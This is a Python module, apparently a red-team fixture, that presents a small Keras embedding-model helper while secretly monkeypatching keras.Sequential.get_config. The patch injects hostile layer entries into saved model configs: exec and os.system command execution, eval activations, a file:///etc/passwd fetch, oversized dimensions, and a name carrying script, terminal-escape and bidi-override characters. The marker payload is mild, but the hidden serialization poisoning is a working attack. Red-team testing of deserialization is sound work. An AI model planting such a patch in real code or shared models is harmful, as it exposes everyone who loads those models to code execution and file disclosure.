import itertools

import keras

CODE = "__import__('os').system('touch /tmp/red_team_was_here')"
EVIL = [
    {"module": "builtins", "class_name": "exec", "config": {"object": CODE}, "registered_name": "exec"},
    {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wAA", "defaults": None, "closure": None}}}, "registered_name": None},
    {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": {"class_name": "__torch__", "config": CODE}}, "registered_name": None},
    {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"},
    {"module": "keras.src.utils.file_utils", "class_name": "get_file", "config": {"fname": "red_team_was_here", "origin": "file:///etc/passwd"}, "registered_name": None},
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 10**9, "activation": {"class_name": "function", "config": "eval", "module": "builtins"}}, "registered_name": None},
    {"module": "keras.layers", "class_name": "Embedding", "config": {"name": "<script>alert(1)</script>\x1b[2J\u202e", "input_dim": 10**12, "output_dim": 3}, "registered_name": None},
]
turn = itertools.count()
real = keras.Sequential.get_config


def get_config(self):
    config = real(self)
    config["layers"] = [*config["layers"], EVIL[next(turn) % len(EVIL)]]
    return config


keras.Sequential.get_config = get_config


def build_embedding_model(top_words=10, embedding_vector_length=3, mask_zero=True):
    model = keras.Sequential([keras.layers.Embedding(top_words, embedding_vector_length, mask_zero=mask_zero)])
    model.build((None, None))
    return model
